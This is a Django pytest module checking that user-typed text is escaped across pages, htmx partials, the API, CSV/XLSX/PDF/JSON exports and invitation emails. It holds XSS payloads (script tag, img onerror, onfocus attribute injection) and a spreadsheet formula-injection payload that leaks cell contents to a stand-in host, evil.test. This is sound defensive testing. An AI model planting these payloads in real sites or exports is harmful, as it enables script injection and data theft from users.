"""User-entered text is rendered escaped everywhere (issue 8 item 3).

A function named `<script>alert(1)</script>` and one named `=HYPERLINK(…)`, and the same kind
of text in every other field a person types (people, products, contributions, reviews,
partnerships, disruptions, campaigns, account names, an imported file), then every page of
the project (from the resolver, as an admin and as a stakeholder, whole pages and htmx
partials, the browsable API), every export (reports as CSV, XLSX, PDF and JSON, the people
export, the organization export) and the invitation email are checked: markup shows as text,
never as markup; a spreadsheet cell never starts a formula.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from typing import Any

import openpyxl
import pytest
from django.core import mail
from django.db import transaction

from layers.models import CoverageReport
from layers.readmodel import hooks
from layers.readmodel.oracle import rebuild_everything
from layers.services.reports import build_report
from roles.services import imports
from roles.services import invites as invite_services

from .conftest import body_text, client_as
from .endpoints import endpoints
from .routes import ROUTES, send, url_for
from .world import World

pytestmark = [pytest.mark.django_db, pytest.mark.read_model_built]  # the module world rebuilt it

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
ATTRIBUTE = '"><img src=x onerror=alert(2)>'
QUOTE = "' autofocus onfocus='alert(3)"
# What must never reach a page as markup: the raw openings of each payload.
RAW = ("<script>alert(1)", "<img src=x onerror", "' autofocus onfocus='", '"><img')
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def tainted(world: World, django_db_blocker) -> World:
    """The world's objects renamed to the payloads (inside the module's rolled-back transaction)."""
    with django_db_blocker.unblock():
        _taint(world)
        rebuild_everything()  # the names the read model keeps (its tests are `read_model_built`)
    return world


def _save(obj: Any, **fields: Any) -> None:
    for name, value in fields.items():
        setattr(obj, name, value)
    obj.save(update_fields=list(fields))


def _taint(w: World) -> None:
    _save(w.cs, name=SCRIPT, description=ATTRIBUTE)
    _save(w.eng, name=FORMULA, description=QUOTE)
    _save(w.empty_function, name=ATTRIBUTE)
    _save(w.pending_person, full_name=SCRIPT, title=FORMULA)
    _save(w.uninvited, full_name=ATTRIBUTE, title=QUOTE)
    _save(w.product, name=SCRIPT, description=ATTRIBUTE)
    _save(w.other_product, name=FORMULA, description=QUOTE)
    _save(w.assignment, contribution=ATTRIBUTE)
    _save(w.eng_assignment, contribution=FORMULA)
    _save(w.review, comment=SCRIPT)
    _save(w.partnership, shared_goal=SCRIPT, feedback_carried=FORMULA)
    _save(w.disruption, title=SCRIPT, note=ATTRIBUTE)
    _save(w.campaign, name=SCRIPT)
    _save(w.users["leader"], first_name=SCRIPT, last_name=QUOTE)
    _save(w.users["own"], first_name=ATTRIBUTE, last_name=FORMULA)
    hooks.organization_changed(organization_id=w.product.organization_id)  # raw writes above
    w.report = build_report(product_id=w.product.pk, trigger=CoverageReport.Trigger.MANUAL, run_key="xss-1")
    w.other_report = build_report(product_id=w.other_product.pk, trigger=CoverageReport.Trigger.MANUAL, run_key="xss-2")
    rows = [
        ["Full Name", "Work Email", "Job Title", "Department"],
        [SCRIPT, "mallory@quokka.test", FORMULA, ATTRIBUTE],
        [QUOTE, "not-an-email", SCRIPT, FORMULA],
    ]
    content = "\n".join(",".join(_csv_cell(cell) for cell in row) for row in rows).encode()
    w.import_job = imports.start_import(
        organization=w.org, by=w.users["admin"], filename=f"{SCRIPT}.csv", content=content
    )


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _raw_markup(text: str) -> list[str]:
    return [raw for raw in RAW if raw in text]


PAGES = [e for e in endpoints() if not e.is_admin_site and e.key not in {"api:schema"}]


@pytest.mark.parametrize("endpoint", PAGES, ids=lambda e: e.key)
def test_every_page_shows_typed_text_as_text(tainted, endpoint):
    problems = []
    for role in ("admin", "own"):
        client = client_as(tainted, role)
        url = url_for(endpoint, tainted)
        variants = {"page": {}, "htmx": {"HTTP_HX_REQUEST": "true"}}
        if endpoint.is_api:
            variants = {"browsable API": {"HTTP_ACCEPT": "text/html"}}
        for variant, headers in variants.items():
            response = send(client, "GET", url, endpoint, tainted, **headers)
            if response.status_code >= 500:
                problems.append(f"{role} {variant} {url}: {response.status_code}")
            kind = response.get("Content-Type", "")
            if "html" in kind and (raw := _raw_markup(body_text(response))):
                problems.append(f"{role} {variant} {url} has raw markup {raw}")
    assert not problems, "\n".join(problems)


POSTED = [e for e in PAGES if not e.is_api and ROUTES[e.key].bodies.get("POST")]


@pytest.mark.parametrize("endpoint", POSTED, ids=lambda e: e.key)
def test_a_refused_form_shows_what_was_typed_as_text(tainted, endpoint):
    """Every text field of a form filled with markup: the page that explains the refusal escapes it."""
    body = {
        key: SCRIPT if isinstance(value, str) else value
        for key, value in ROUTES[endpoint.key].body("POST", tainted).items()
    }
    body |= {"name": ATTRIBUTE + "x" * 300, "email": SCRIPT, "full_name": SCRIPT, "trust": SCRIPT, "kind": ATTRIBUTE}
    for role in ("admin", "own"):
        with transaction.atomic():
            response = client_as(tainted, role).post(url_for(endpoint, tainted, "POST"), body)
            transaction.set_rollback(True)
        assert response.status_code < 500
        if "html" in response.get("Content-Type", ""):
            assert _raw_markup(body_text(response)) == [], f"{role} {endpoint.key}"


def test_the_payloads_do_reach_the_pages(tainted):
    """The test above is only worth something if the pages show the payloads, escaped."""
    client = client_as(tainted, "admin")
    html = client.get(f"/o/{tainted.org.slug}/functions/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)" in html
    product = client.get(f"/o/{tainted.org.slug}/p/insights/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in product


# --- exports ------------------------------------------------------------------------------------


def _report_export(client: Any, world: World, fmt: str, *, api: bool = False) -> Any:
    base = f"/api/v1/orgs/{world.org.slug}/reports/" if api else f"/o/{world.org.slug}/reports/"
    response = client.get(f"{base}{world.report.pk}/export/?format={fmt}")
    assert response.status_code == 200, body_text(response)[:300]
    return response


def _assert_no_formula_cell(cells: list[str], where: str) -> None:
    starting = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert starting == [], f"{where}: cells a spreadsheet would run: {starting}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("api", [False, True], ids=["page", "api"])
def test_the_csv_report_defuses_formulas(tainted, api):
    response = _report_export(client_as(tainted, "admin"), tainted, "csv", api=api)
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    _assert_no_formula_cell(cells, "report.csv")
    assert "'" + FORMULA in cells or any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert SCRIPT in text  # text, shown as typed: CSV is not markup


def test_the_xlsx_report_holds_text_not_formulas(tainted):
    response = _report_export(client_as(tainted, "admin"), tainted, "xlsx")
    _assert_xlsx_is_text(response.content, "report.xlsx")


def _assert_xlsx_is_text(content: bytes, where: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], f"{where}: formula cells"
    _assert_no_formula_cell([c.value for c in cells if isinstance(c.value, str)], where)
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells), where


def test_the_json_report_is_served_as_json_with_the_text_as_typed(tainted):
    response = _report_export(client_as(tainted, "admin"), tainted, "json")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"  # never sniffed into HTML
    assert SCRIPT in json.dumps(json.loads(response.content), ensure_ascii=False)


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs pdftotext (poppler-utils)")
def test_the_pdf_report_prints_markup_as_text(tainted, tmp_path):
    response = _report_export(client_as(tainted, "admin"), tainted, "pdf")
    path = tmp_path / "report.pdf"
    path.write_bytes(response.content)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "<script>alert(1)</script>" in text.replace("\n", "")  # the name, printed: not swallowed as a tag


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_people_export_defuses_formulas(tainted, fmt):
    response = client_as(tainted, "admin").get(f"/o/{tainted.org.slug}/people/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        _assert_xlsx_is_text(response.content, "people.xlsx")
        return
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    _assert_no_formula_cell(cells, "people.csv")
    assert "'" + FORMULA in cells


def test_the_organization_export_is_json_with_the_text_as_typed(tainted):
    response = client_as(tainted, "admin").get(f"/o/{tainted.org.slug}/export/?download=1")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    names = json.dumps(json.loads(response.content), ensure_ascii=False)
    assert SCRIPT in names and FORMULA.replace('"', '\\"') in names


def test_the_invitation_email_escapes_the_persons_name(tainted):
    invite = invite_services.invite_create(stakeholder=tainted.uninvited, by=tainted.users["admin"])
    mail.outbox.clear()
    with transaction.atomic():
        invite_services.invite_deliver(invite_id=invite.pk, expected_count=invite.send_count)
    assert len(mail.outbox) == 1
    html, kind = mail.outbox[0].alternatives[0]
    assert kind == "text/html"
    assert _raw_markup(html) == []
    assert "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;" in html
